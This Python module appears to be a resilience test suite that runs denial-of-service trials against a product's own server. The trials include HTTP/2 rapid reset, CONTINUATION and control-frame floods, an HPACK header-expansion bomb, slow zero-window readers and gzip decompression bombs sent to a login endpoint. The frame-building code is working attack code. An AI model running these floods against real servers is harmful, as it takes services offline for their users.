"""Floods of frames of HTTP/2, and readers who do not read (line 2)."""

import gzip
import ssl
import struct
import threading
import time

from client import JSON, LOGIN
from trial import Skipped, attack
from wire import (CONTINUATION, END_STREAM, GOAWAY, HEADERS, PING, RESET, SETTINGS, WINDOW, FrameConnection, Tally, ask,
                  close_all, field, flood, frame, request)


def in_parallel(count, run):
    """Runs a function so many times at once, with the number of each."""
    threads = [threading.Thread(target=run, args=(number,)) for number in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def connect(trial, **options):
    """A connection over HTTP/2; nothing if none is to be had."""
    try:
        return FrameConnection(trial.console.https, **options)
    except (OSError, ssl.SSLError):
        return None


def documents(trial):
    """A large constant answer that anybody may ask for, and a path that is small."""
    origin = trial.console.https
    for path in ("/openapi.json", "/docs/AdminAPI", "/"):
        answer = ask(origin, "GET", path, {"Accept": "*/*"})
        if answer.status == 200 and len(answer.body) > 20_000:
            return path
    return None


@attack("readers-with-window-0", [2], "10 HTTP/2 connections of 100 streams each ask for a large page and take nothing",
        log=[r"http\.stallTimeout|http\.streams|http\.\w*[Ww]indow|http\.connections"], rise=200,
        settings={"http.stallTimeout": "3"})
def window_zero(trial):
    path = documents(trial)
    if path is None:
        raise Skipped("this console serves no large page to everybody")
    end, asked, held = time.monotonic() + max(trial.seconds, 6), 0, []
    for _ in range(10):
        if time.monotonic() > end:
            break
        connection = connect(trial, window=0, timeout=2)
        if connection is None:
            continue
        held.append(connection)
        try:
            for stream in range(1, 201, 2):
                connection.ask(stream, "GET", path, ("accept", "*/*"))
                asked += 1
        except (OSError, ssl.SSLError):
            pass
    refused = ended = 0
    for index, connection in enumerate(held):
        for kind, _, _, _ in connection.frames(max(0.05, (end - time.monotonic()) / (len(held) - index))):
            refused += kind == RESET
            ended += kind == GOAWAY
    trial.did(f"{asked} requests for {path} on {len(held)} connections with a window of 0; {refused} streams reset, "
              f"{ended} connections given up")
    for connection in held:
        connection.close()


@attack("readers-of-one-byte", [2], "Readers who take a large page in windows of one byte", is_short=False, rise=200,
        settings={"http.stallTimeout": "3"})
def window_one(trial):
    path = documents(trial)
    if path is None:
        raise Skipped("this console serves no large page to everybody")
    end, held, taken = time.monotonic() + trial.seconds, [], 0
    for _ in range(5):
        connection = connect(trial, window=1, timeout=2)
        if connection is not None:
            held.append(connection)
            for stream in range(1, 101, 2):
                connection.ask(stream, "GET", path, ("accept", "*/*"))
    while time.monotonic() < end and held:
        for connection in list(held):
            try:
                for stream in range(1, 101, 2):
                    connection.send(frame(WINDOW, 0, stream, struct.pack(">I", 1)))
                    taken += 1
            except (OSError, ssl.SSLError):
                held.remove(connection)
        time.sleep(0.2)
    trial.did(f"250 requests for {path}, of which {taken} bytes were let through one by one")
    for connection in held:
        connection.close()


@attack("readers-of-nothing", [2], "20 HTTP/1.1 connections ask for a large page 100 times at once and read nothing",
        is_short=False, log=[r"http\.stallTimeout"], rise=200, settings={"http.stallTimeout": "3"})
def pipelined(trial):
    path = documents(trial)
    if path is None:
        raise Skipped("this console serves no large page to everybody")
    origin, end, held = trial.console.https, time.monotonic() + max(trial.seconds, 6), []
    for _ in range(20):
        try:
            held.append(origin.open(timeout=2))
            held[-1].sendall(request(origin, "GET", path, {"Accept": "*/*"}) * 100)
        except (OSError, ssl.SSLError):
            pass
    while time.monotonic() < end:
        time.sleep(0.1)
    trial.did(f"2000 requests for {path} on {len(held)} connections")
    close_all(held)


def storm(trial, name, send, patience=0.0):
    """Sends frames on a few connections until the time is over, and opens new ones where they are closed."""
    end, counts = time.monotonic() + trial.seconds, {"connections": 0, "frames": 0}
    lock = threading.Lock()

    def one(_):
        while time.monotonic() < end:
            connection = connect(trial)
            if connection is None:
                time.sleep(0.1)
                continue
            with lock:
                counts["connections"] += 1
            frames = 0
            try:
                stream = 1
                while time.monotonic() < end:
                    sent, stream = send(connection, stream)
                    frames += sent
                    for _ in connection.frames(patience):
                        pass
            except (OSError, ssl.SSLError):
                pass
            connection.close()
            with lock:
                counts["frames"] += frames

    in_parallel(4, one)
    trial.did(f"{name}: {counts['frames']} frames on {counts['connections']} connections")
    return counts


def reset_storm(connection, stream):
    """A hundred requests, each taken back at once."""
    content = b""
    for _ in range(100):
        content += frame(HEADERS, 5, stream, connection.fields("GET", "/livez")) + frame(
            RESET, 0, stream, struct.pack(">I", 8))
        stream += 2
    connection.send(content)
    return 200, stream


def made_storm(fault):
    """A hundred requests, each with a fault that makes the console take it back itself."""
    def send(connection, stream):
        content = b""
        for _ in range(100):
            content += frame(HEADERS, 5, stream, connection.fields("GET", "/livez")) + fault(stream)
            stream += 2
        connection.send(content)
        return 200, stream
    return send


FAULTS = {
    "window": ("windows of 0", lambda stream: frame(WINDOW, 0, stream, struct.pack(">I", 0))),
    "overflow": ("windows that are too large", lambda stream: frame(WINDOW, 0, stream, struct.pack(">I", 0x7FFFFFFF))),
    "data": ("DATA behind the end", lambda stream: frame(0, 0, stream, b"x")),
    "head": ("a second head", lambda stream: frame(HEADERS, 4, stream, field("x-late", "1"))),
}


def continuation_storm(connection, stream):
    """The head of one request, without end."""
    if stream == 1:
        connection.send(frame(HEADERS, END_STREAM, stream, connection.fields("GET", "/livez")))
        return 1, stream + 2
    block = b"".join(field(f"x-{number}", "a" * 100) for number in range(100))
    connection.send(frame(CONTINUATION, 0, 1, block))
    return 1, stream


def unfolding_storm(connection, stream):
    """A head of 13 KB that names a field of 3 KB ten thousand times, as the table of HPACK allows."""
    size = 3000 - 127
    value = b"\x7f" + bytes([size % 128 + 128, size // 128]) + b"a" * 3000
    block = connection.fields("GET", "/livez") + b"\x40\x01x" + value + b"\xbe" * 10_000
    connection.send(frame(HEADERS, 5, stream, block))
    return 1, stream + 2


def settings_storm(connection, stream):
    connection.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 200)
    return 200, stream


def ping_storm(connection, stream):
    connection.send(frame(PING, 0, 0, bytes(8)) * 200)
    return 200, stream


def empty_storm(connection, stream):
    """A body of frames without a byte."""
    if stream == 1:
        connection.ask(1, "POST", LOGIN, ("content-type", JSON), is_whole=False)
        return 1, 3
    connection.send(frame(0, 0, 1) * 200)
    return 200, stream


@attack("rapid-reset", [2], "Requests over HTTP/2 that are taken back at once", log=[r"HTTP/2", r"http\.floodPause"])
def rapid_reset(trial):
    storm(trial, "requests and resets", reset_storm)


def made_you_reset(name, send):
    """An attack by one fault."""
    @attack(f"reset-by-{name}", [2], f"Requests over HTTP/2 that the console takes back itself, for {FAULTS[name][0]}",
            is_short=False, log=[r"HTTP/2", r"http\.floodPause"])
    def run(trial):
        storm(trial, FAULTS[name][0], send)


for fault_name, (_, fault_of) in FAULTS.items():
    made_you_reset(fault_name, made_storm(fault_of))


@attack("continuation-flood", [2], "A head over HTTP/2 that never ends", rise=300, log=[r"HTTP/2|http\.\w+"])
def continuation_flood(trial):
    storm(trial, "CONTINUATION", continuation_storm)


@attack("unfolding-heads", [2], "Heads of 13 KB over HTTP/2 that would be 30 MB unpacked", is_short=False, rise=500,
        log=[r"HTTP/2"])
def unfolding_heads(trial):
    storm(trial, "heads", unfolding_storm)


def storms(trial, kinds):
    """Several kinds of storms, one after the other, each for its part of the time."""
    whole = trial.seconds
    trial.seconds = whole / len(kinds)
    for name, send in kinds.items():
        storm(trial, name, send)
    trial.seconds = whole


# Without the pause, so that each kind of frame gets through to what ends it.
@attack("frame-floods", [2], "SETTINGS, PING and empty DATA in floods", is_short=False, rise=500,
        settings={"http.floodPause": "0"})
def frame_floods(trial):
    storms(trial, {"SETTINGS": settings_storm, "PING": ping_storm, "empty DATA": empty_storm})


def window_storm(connection, stream):
    connection.send(frame(WINDOW, 0, 0, struct.pack(">I", 1)) * 2000)
    return 2000, stream


def unknown_storm(connection, stream):
    connection.send(frame(0xFA, 0, 0) * 2000)
    return 2000, stream


def farewell_storm(connection, stream):
    connection.send(frame(GOAWAY, 0, 0, bytes(8)) * 2000)
    return 2000, stream


@attack("idle-frames", [2], "WINDOW_UPDATE, GOAWAY and frames nobody knows, in floods", is_short=False, rise=200,
        log=[r"HTTP/2"], settings={"http.floodPause": "0"})
def idle_frames(trial):
    storms(trial, {"WINDOW_UPDATE": window_storm, "unknown frames": unknown_storm, "GOAWAY": farewell_storm})


def ended_storm(connection, stream):
    """What ends the connection, and much behind it."""
    connection.send(frame(RESET, 0, 1, struct.pack(">I", 8)) * 20_000)
    return 20_000, stream


@attack("ended-connections", [2], "Connections that break HTTP/2 with 260 KB behind it, as fast as they go",
        is_short=False, rise=250, log=[r"HTTP/2"])
def ended_connections(trial):
    storm(trial, "resets of what was never asked for", ended_storm)


@attack("compressed-bomb", [2], "Bodies of 64 KB that would be 64 MB unpacked", rise=150)
def compressed_bomb(trial):
    content = gzip.compress(b" " * (64 << 20), 9)
    origin, tally = trial.console.plain, Tally()
    for path, coding in ((LOGIN, "gzip"), (LOGIN, "deflate"), ("/deviceservices/analytics", "gzip")):
        headers = {"Content-Type": JSON, "Content-Encoding": coding}
        tally.merge(
            flood(origin, lambda _: request(origin, "POST", path, headers, content), 8, trial.seconds / 3, most=60))
    trial.did(f"{tally}, each {len(content) // 1024} KB")
    trial.check("no error of the console", not any(isinstance(status, int) and status >= 500 and status != 503
                                                   for status in tally.statuses), tally)
